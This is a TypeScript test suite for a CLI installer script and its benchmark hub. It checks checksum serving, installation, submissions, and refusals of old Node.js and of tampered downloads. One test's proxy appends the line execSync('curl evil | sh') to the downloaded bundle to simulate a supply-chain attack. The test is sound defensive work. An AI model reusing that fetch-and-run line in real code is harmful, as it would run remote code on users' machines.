import { spawn } from 'node:child_process';
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer, request as httpRequest, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { teamToken } from '../support/cli';
import { startTestHub, TestHub, ROOT } from '../support/hub';

/**
 * The starter's install-dryft.sh (POSIX sh, run by dash here) against a running hub: it installs a
 * CLI that works, refuses a download whose sha256 differs (a tampering proxy in between), and
 * refuses without Node.js. Needs the bundle (`npm run build`, or `node scripts/bundle-cli.mjs`).
 */
const BUNDLE = path.join(ROOT, 'apps/cli/dist/dryft.cjs');
const SCRIPT = path.join(ROOT, 'starters/_shared/install-dryft.sh'); // every starter's (laid over it when built)

function run(
  cmd: string,
  args: string[],
  opts: { cwd: string; env: NodeJS.ProcessEnv },
): Promise<{ code: number | null; out: string }> {
  return new Promise((resolve) => {
    const child = spawn(cmd, args, { cwd: opts.cwd, env: opts.env, stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    child.stdout.on('data', (c: Buffer) => (out += c.toString()));
    child.stderr.on('data', (c: Buffer) => (out += c.toString()));
    const timer = setTimeout(() => child.kill('SIGKILL'), 60_000);
    child.once('close', (code) => {
      clearTimeout(timer);
      resolve({ code, out });
    });
  });
}

/** A fresh copy of the starter's installer in its own folder, as a participant's clone has it. */
function freshRepo(): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'dryft-install-'));
  copyFileSync(SCRIPT, path.join(dir, 'install-dryft.sh'));
  mkdirSync(path.join(dir, 'bin'));
  writeFileSync(path.join(dir, 'bin/.gitkeep'), '');
  return dir;
}

/** An HTTP proxy to the hub that changes one byte of the CLI bundle on the way (and passes the checksum through). */
async function tamperingProxy(target: string): Promise<{ url: string; close: () => Promise<void> }> {
  const server: Server = createServer((req, res) => {
    const up = httpRequest(
      new URL(req.url ?? '/', target),
      { method: req.method, headers: { ...req.headers, host: new URL(target).host } },
      (upRes) => {
        const chunks: Buffer[] = [];
        upRes.on('data', (c: Buffer) => chunks.push(c));
        upRes.on('end', () => {
          let body = Buffer.concat(chunks);
          if (req.url === '/api/cli/dryft.cjs')
            body = Buffer.concat([
              body,
              Buffer.from('\nrequire("child_process").execSync("curl evil | sh");\n'),
            ]);
          const headers = { ...upRes.headers, 'content-length': String(body.length) };
          res.writeHead(upRes.statusCode ?? 502, headers);
          res.end(body);
        });
      },
    );
    up.on('error', () => res.writeHead(502).end());
    req.pipe(up);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: () => new Promise((r) => server.close(() => r())),
  };
}

describe.skipIf(!existsSync(BUNDLE))('install-dryft.sh against a running hub', () => {
  let hub: TestHub;
  const dirs: string[] = [];
  const baseEnv = { PATH: process.env.PATH, HOME: tmpdir(), NO_COLOR: '1' };

  beforeAll(async () => {
    hub = await startTestHub();
  });
  afterAll(async () => {
    await hub?.close();
    for (const d of dirs) rmSync(d, { recursive: true, force: true });
  });

  it('serves the bundle and its checksum publicly', async () => {
    const sum = await fetch(`${hub.baseUrl}/api/cli/dryft.cjs.sha256`);
    expect(sum.status).toBe(200);
    expect(await sum.text()).toBe(readFileSync(`${BUNDLE}.sha256`, 'utf8'));
    const bundle = await fetch(`${hub.baseUrl}/api/cli/dryft.cjs`);
    expect(bundle.status).toBe(200);
    expect(Buffer.from(await bundle.arrayBuffer()).equals(readFileSync(BUNDLE))).toBe(true);
    expect(bundle.headers.get('x-dryft-sha256')).toBe(readFileSync(`${BUNDLE}.sha256`, 'utf8').split(' ')[0]);
  });

  it('serves "Download template" as a named .tar.gz, and 404 for an unknown benchmark', async () => {
    const res = await fetch(`${hub.baseUrl}/api/benchmarks/qwen3-4b-decode/template`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/gzip');
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="qwen3-4b-decode-template.tar.gz"',
    );
    const again = Buffer.from(
      await (await fetch(`${hub.baseUrl}/api/benchmarks/qwen3-4b-decode/template`)).arrayBuffer(),
    );
    expect(Buffer.from(await res.arrayBuffer()).equals(again)).toBe(true);
    const missing = await fetch(`${hub.baseUrl}/api/benchmarks/no-such-benchmark/template`);
    expect(missing.status).toBe(404);
    expect(((await missing.json()) as { error: { code: string } }).error.code).toBeTruthy();
  });

  it('installs a working bin/dryft that knows the hub it came from', async () => {
    const repo = freshRepo();
    dirs.push(repo);
    const res = await run('sh', ['./install-dryft.sh', hub.baseUrl], { cwd: repo, env: baseEnv });
    expect(res.code, res.out).toBe(0);
    expect(res.out).toMatch(/Installed dryft \S+ in .*sha256 [0-9a-f]{64} verified/);
    expect(statSync(path.join(repo, 'bin/dryft')).mode & 0o111).not.toBe(0);
    expect(readdirSync(path.join(repo, 'bin')).sort()).toEqual([
      '.gitkeep',
      'dryft',
      'dryft-hub.txt',
      'dryft.cjs',
    ]);
    expect(readFileSync(path.join(repo, 'bin/dryft-hub.txt'), 'utf8')).toBe(`${hub.baseUrl}\n`);
    const { token } = await teamToken(hub.baseUrl, `inst${Date.now().toString(36)}`);
    // no DRYFT_API_URL in the environment: the launcher's default is the hub it was installed from
    const doctor = await run(path.join(repo, 'bin/dryft'), ['doctor'], {
      cwd: repo,
      env: { ...baseEnv, DRYFT_TOKEN: token },
    });
    expect(doctor.code, doctor.out).toBe(0);
    expect(doctor.out).toContain(hub.baseUrl);
    const validate = await run(
      path.join(repo, 'bin/dryft'),
      ['validate', path.join(ROOT, 'starters/toy-decode/engine')],
      { cwd: repo, env: baseEnv },
    );
    expect(validate.code, validate.out).toBe(0);
  });

  it('inside the toy-decode template, `./bin/dryft submit engine` (as the page shows it) goes to toy-decode', async () => {
    const work = mkdtempSync(path.join(tmpdir(), 'dryft-template-submit-'));
    dirs.push(work);
    const tgz = path.join(work, 'template.tar.gz');
    writeFileSync(
      tgz,
      Buffer.from(await (await fetch(`${hub.baseUrl}/api/benchmarks/toy-decode/template`)).arrayBuffer()),
    );
    expect((await run('tar', ['xzf', tgz], { cwd: work, env: baseEnv })).code).toBe(0);
    const repo = path.join(work, 'toy-decode');
    expect((await run('sh', ['./install-dryft.sh', hub.baseUrl], { cwd: repo, env: baseEnv })).code).toBe(0);
    const { token } = await teamToken(hub.baseUrl, `tmpl${Date.now().toString(36)}`);
    const env = { ...baseEnv, DRYFT_TOKEN: token };
    const submit = await run('./bin/dryft', ['submit', 'engine'], { cwd: repo, env });
    expect(submit.code, submit.out).toBe(0);
    expect(submit.out).toContain('Benchmark: toy-decode (from dryft.json)');
    const id = submit.out.trim().split('\n').pop()!;
    const sub = await fetch(`${hub.baseUrl}/api/submissions/${id}`, {
      headers: { authorization: `Bearer ${token}` },
    });
    expect(((await sub.json()) as { benchmarkId: string }).benchmarkId).toBe('toy-decode');
  });

  it('refuses a tampered download and installs nothing', async () => {
    const proxy = await tamperingProxy(hub.baseUrl);
    const repo = freshRepo();
    dirs.push(repo);
    try {
      const res = await run('sh', ['./install-dryft.sh'], {
        cwd: repo,
        env: { ...baseEnv, DRYFT_API_URL: proxy.url },
      });
      expect(res.code).not.toBe(0);
      expect(res.out).toMatch(/checksum mismatch/);
      expect(res.out).toMatch(/nothing was installed/);
      expect(readdirSync(path.join(repo, 'bin'))).toEqual(['.gitkeep']);
    } finally {
      await proxy.close();
    }
  });

  it('refuses clearly without Node.js, and with a Node.js older than 20', async () => {
    const repo = freshRepo();
    dirs.push(repo);
    const tools = path.join(repo, 'tools');
    mkdirSync(tools);
    for (const t of [
      'sh',
      'sed',
      'tr',
      'dirname',
      'mkdir',
      'cat',
      'rm',
      'mv',
      'chmod',
      'cut',
      'sha256sum',
      'curl',
    ])
      symlinkSync(`/usr/bin/${t}`, path.join(tools, t));
    const none = await run('/usr/bin/sh', ['./install-dryft.sh', hub.baseUrl], {
      cwd: repo,
      env: { ...baseEnv, PATH: tools },
    });
    expect(none.code).toBe(1);
    expect(none.out).toMatch(/Node\.js is not installed.*Node\.js 20 or newer/);
    writeFileSync(
      path.join(tools, 'node'),
      '#!/bin/sh\ncase "$1" in -p) echo 18 ;; *) echo v18.19.0 ;; esac\n',
      { mode: 0o755 },
    );
    const old = await run('/usr/bin/sh', ['./install-dryft.sh', hub.baseUrl], {
      cwd: repo,
      env: { ...baseEnv, PATH: tools },
    });
    expect(old.code).toBe(1);
    expect(old.out).toMatch(/needs Node\.js 20 or newer; this node is v18\.19\.0/);
    expect(readdirSync(path.join(repo, 'bin'))).toEqual(['.gitkeep']);
  });

  it('says where to look when the hub cannot be reached', async () => {
    const repo = freshRepo();
    dirs.push(repo);
    const res = await run('sh', ['./install-dryft.sh', 'http://127.0.0.1:9'], { cwd: repo, env: baseEnv });
    expect(res.code).toBe(1);
    expect(res.out).toMatch(/could not download .*\/api\/health/);
  });
});
